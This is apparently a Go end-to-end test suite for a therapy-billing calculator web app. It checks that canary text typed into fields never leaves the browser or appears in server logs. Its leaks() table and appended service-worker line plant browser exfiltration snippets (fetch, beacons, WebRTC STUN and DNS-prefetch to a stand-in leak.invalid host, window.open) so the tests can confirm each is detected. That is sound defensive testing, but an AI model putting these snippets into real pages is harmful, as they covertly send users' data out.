package e2e

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"maps"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// loggedBrowser is a browser of its own that writes down all that it does with
// the network, in every process and for every frame and worker: requests with
// their headers and bytes, names looked up, connections opened ahead, datagrams.
type loggedBrowser struct {
	t     *testing.T
	log   string
	close func()
	*tab
}

func newLoggedBrowser(t *testing.T, s *site) *loggedBrowser {
	t.Helper()
	path, err := findChromium()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	b := &loggedBrowser{t: t, log: filepath.Join(dir, "net.json")}
	ctx, stop := startBrowser(path, filepath.Join(dir, "browser"),
		chromedp.Flag("log-net-log", b.log), chromedp.Flag("net-log-capture-mode", "Everything"))
	b.close = stop
	if err := chromedp.Do(ctx); err != nil {
		stop()
		t.Fatal(err)
	}
	b.tab = &tab{t: t, ctx: ctx, site: s, other: &recorder{}}
	b.tab.watch()
	b.tab.do(chromedp.Action[chromedp.Void](before(`self.print = () => {}`)))
	return b
}

var loggedBytes = regexp.MustCompile(`"bytes":"([A-Za-z0-9+/=]+)"`)

// written ends the browser and gives its log, with the bytes that were sent and
// received as they were.
func (b *loggedBrowser) written() string {
	b.t.Helper()
	b.close()
	data, err := os.ReadFile(b.log)
	if err != nil {
		b.t.Fatal(err)
	}
	var all bytes.Buffer
	all.Write(data)
	for _, m := range loggedBytes.FindAllSubmatch(data, -1) {
		sent, _ := base64.StdEncoding.DecodeString(string(m[1])) // what is not base64 stands in data
		all.WriteByte('\n')
		all.Write(sent)
	}
	return strings.ToLower(all.String())
}

// holds reports whether a text in lower case holds the secret, in any wrapping.
func holds(text, secret string) bool {
	return slices.ContainsFunc(encoded(secret), func(form string) bool { return strings.Contains(text, strings.ToLower(form)) })
}

// talkingServer is the real server alone, with all that it writes.
func talkingServer(t *testing.T, dir string) (s *site, said *bytes.Buffer, stop func()) {
	t.Helper()
	said = &bytes.Buffer{}
	name := filepath.Join(t.TempDir(), "said")
	out, err := os.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(theSuite(t).command, "serve", "-dir", dir, "-addr", "127.0.0.1:0")
	cmd.Stdout, cmd.Stderr = out, out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	stopped := false
	stop = func() {
		if stopped {
			return
		}
		stopped = true
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
		out.Close()
		data, _ := os.ReadFile(name)
		said.Write(data)
	}
	t.Cleanup(stop)
	address := regexp.MustCompile(`127\.0\.0\.1:[0-9]+`)
	for range 500 {
		if data, _ := os.ReadFile(name); address.Match(data) {
			return &site{t: t, addr: string(address.Find(data))}, said, stop
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("the server did not start")
	return nil, nil, nil
}

// A journey opens a page whose every field takes a canary, and does what brings
// all of them to light.
type journey func(p *tab)

func journeys() []journey {
	return []journey{
		func(p *tab) {
			p.openVisit()
			p.addService("97161", "")
			p.until(`document.querySelector("#service-2-units")`)
			p.click("#assistants")
			p.until(`document.querySelector("#service-2-assistant")`)
			p.click("#show-times-1")
			p.click("#add-time-1")
			p.until(`document.querySelector("#span-to")`)
		},
		func(p *tab) {
			p.openPatient()
			p.put("start", "2026-08-03")
			p.pick("who-medicare")
			p.until(`document.querySelector("#compare h2")`)
		},
		func(p *tab) { p.open("/library/"); p.ready() },
	}
}

// knownFields are fields that a journey has to pass, so that none is missed.
func knownFields() []string {
	all := []string{"#find"}
	for _, fields := range []map[string]string{canaries(), dayCanaries(), patientCanaries()} {
		all = slices.AppendSeq(all, maps.Keys(fields))
	}
	for _, id := range []string{"service-1-code", "service-1-minutes", "place", "per-week", "weeks", "zip", "deductible", "used", "copay", "percent", "most", "rate"} {
		all = append(all, "frame #"+id)
	}
	return all
}

// framed opens a page of a clinic's own in which both views of the frame stand.
func (b *loggedBrowser) framed() []*tab {
	b.t.Helper()
	h := newHost(b.t)
	h.page("/", `<style>div { display: flex } therapy-tally { width: 50% }</style><div>`+b.site.tag("view", "units")+b.site.tag("view", "patient")+`</div>`)
	b.visit(h, "/")
	frames := b.frames(2)
	for _, f := range frames {
		f.ready()
		if eval[bool](f, `!!document.querySelector("#who-medicare")`) { // it asks one thing at first
			f.pick("who-medicare")
			f.until(`document.querySelector("#per-week")`)
		}
	}
	return frames
}

// marker stands in every canary; its number is too long to come about by chance.
const marker = "canary730194628513"

// TestNothingLeavesByAnyWay types a canary into every field of every journey
// and looks for it in everything that the browser did with the network and
// everything that the server wrote; then again without the server. The ordinary
// run types into every field too, and looks at the requests of the pages alone.
func TestNothingLeavesByAnyWay(t *testing.T) {
	exhaustive(t)
	t.Parallel()
	s, said, stop := talkingServer(t, theSuite(t).export)
	b := newLoggedBrowser(t, s)
	b.open("/")
	b.installed()
	typed, texts := map[string]bool{}, 0
	shakes := func(p *tab, when, kind string) {
		canary := fmt.Sprintf(`(n) => "%s-" + n + "-%s" + n`, when, marker)
		for id := range awaited[map[string]string](p, shaken(2, canary)) {
			typed[kind+"#"+id] = true
			texts++
		}
	}
	for _, opens := range journeys() {
		opens(b.tab)
		shakes(b.tab, "online", "")
	}
	frames := b.framed()
	for _, f := range frames {
		shakes(f, "online", "frame ")
	}
	stop()
	for _, f := range frames { // a frame in another site keeps no copy: it is still open
		shakes(f, "offline", "frame ")
	}
	for _, opens := range journeys() {
		opens(b.tab)
		shakes(b.tab, "offline", "")
	}
	for _, id := range knownFields() {
		if !typed[id] {
			t.Errorf("nothing was typed into %s", id)
		}
	}
	t.Logf("%d texts", texts)
	log := b.written()
	if !strings.Contains(log, "/sw.js") {
		t.Error("the log holds no request at all")
	}
	for _, part := range []string{marker, strings.TrimLeft(marker, "canry")} { // the number alone, too
		if holds(log, part) {
			t.Errorf("%q left the device", part)
		}
		if holds(strings.ToLower(said.String()), part) {
			t.Errorf("the server wrote %q", part)
		}
	}
}

// leaks are the ways by which a page could tell something, each planted once.
// The policy leaves them open, for a page must reach its own site and the
// browser looks names up by itself: so they must be seen.
func leaks() map[string]string {
	return map[string]string{
		"query":             `fetch("x?n=" + encodeURIComponent(secret))`,
		"body":              `fetch("x", {method: "POST", body: JSON.stringify({secret})})`,
		"header":            `fetch("x", {headers: {note: secret}})`,
		"base64":            `fetch("x/" + btoa("--" + secret))`,
		"hex":               `fetch("x/" + [...secret].map((c) => c.charCodeAt(0).toString(16)).join(""))`,
		"beacon":            `navigator.sendBeacon("x", secret)`,
		"picture":           `new Image().src = "x?" + secret`,
		"style":             `document.styleSheets[0].insertRule("html::before { content: url(x?" + secret + ") }")`,
		"socket":            `new WebSocket("ws://" + location.host + "/x?" + secret)`,
		"stream":            `new EventSource("x?" + secret)`,
		"cookie":            `document.cookie = "x=" + secret; fetch("x")`,
		"worker":            `navigator.serviceWorker.ready.then((r) => r.active.postMessage({leak: secret}))`,
		"dns-prefetch":      `add("dns-prefetch", "http://" + secret + ".leak.invalid/")`,
		"preconnect":        `add("preconnect", "http://" + secret + ".leak.invalid/")`,
		"webrtc":            `const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + secret + ".leak.invalid:3478"}]}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
		"ping":              `const a = document.createElement("a"); a.href = "#x"; a.ping = "x?" + secret; document.body.append(a); a.click()`,
		"a window, at last": `window.open("http://leak.invalid/" + secret)`,
		"a tab, at last":    `const a = document.createElement("a"); a.href = "http://leak.invalid/" + secret; a.target = "_blank"; document.body.append(a); a.click()`,
		"link, at last":     `location.href = "http://leak.invalid/" + secret`,
	}
}

// tapped runs a script as if somebody had just tapped: else no window opens.
func (p *tab) tapped(script string) {
	p.t.Helper()
	if r := call(p, runtime.Evaluate, runtime.EvaluateParams{Expression: script, UserGesture: new(true)}); r.ExceptionDetails != nil {
		p.t.Fatalf("%s: %v", script, r.ExceptionDetails)
	}
}

// askTellingAll is a request whose every part a server could write down.
func askTellingAll(t *testing.T, s *site) {
	t.Helper()
	request, err := http.NewRequest("GET", s.url("/x?logcanary7301"), http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("User-Agent", "logcanary7302")
	request.Header.Set("Referer", "http://logcanary7303.invalid/")
	if response, err := http.DefaultClient.Do(request); err == nil {
		response.Body.Close()
	}
}

func TestEachWayOutIsSeen(t *testing.T) {
	exhaustive(t)
	t.Parallel()
	dir := exportVariant(t, "leaky")
	worker, err := os.OpenFile(filepath.Join(dir, "sw.js"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(worker, `self.addEventListener("message", (e) => { if (e.data.leak) fetch("x?" + e.data.leak); });`)
	worker.Close()
	for _, packed := range []string{"sw.js.br", "sw.js.gz"} {
		os.Remove(filepath.Join(dir, packed)) // or the worker as it was would be sent
	}
	s, said, stop := talkingServer(t, dir)
	b := newLoggedBrowser(t, s)
	b.open("/")
	b.installed()
	if !eval[bool](b.tab, `(() => { try { document.querySelector("h1").innerHTML = "<b>x</b>"; } catch (e) { return e instanceof TypeError; } })()`) {
		t.Error("a text became a piece of the page: Trusted Types are off")
	}
	b.tapped(`for (const method of ["get", "post"]) { const f = document.createElement("form"), i = document.createElement("input"); f.method = method; f.action = "x"; i.name = "x"; i.value = "leak9998canary"; f.append(i); document.body.append(f); f.submit(); }`)
	secrets := map[string]string{}
	names := make([]string, 0, len(leaks()))
	for name := range leaks() {
		names = append(names, name)
	}
	slices.Sort(names)
	slices.SortStableFunc(names, func(a, b string) int { return strings.Count(a, "at last") - strings.Count(b, "at last") })
	for i, name := range names {
		if strings.Contains(name, "at last") { // what hides or leaves the page keeps it from drawing
			settle()
		}
		secrets[name] = fmt.Sprintf("leak%dcanary", 7301+i)
		b.tapped(fmt.Sprintf(`(() => { const secret = %q, add = (rel, href) => { const l = document.createElement("link"); l.rel = rel; l.href = href; document.head.append(l); };
			%s; return true; })()`, secrets[name], leaks()[name]))
	}
	settle()
	settle()
	askTellingAll(t, s)
	stop()
	log := b.written()
	for name, secret := range secrets {
		if !holds(log, secret) {
			t.Errorf("the leak by %s was not seen", name)
		}
	}
	if holds(log, "leak9998canary") {
		t.Error("a form was sent: the policy is off")
	}
	if holds(log, "leak9999canary") {
		t.Error("what was never sent was seen")
	}
	if strings.Contains(said.String(), "canary") {
		t.Errorf("the server wrote down what it was asked: %s", said)
	}
	if !strings.Contains(said.String(), "Therapy Tally is at") {
		t.Error("what the server writes was not read")
	}
}
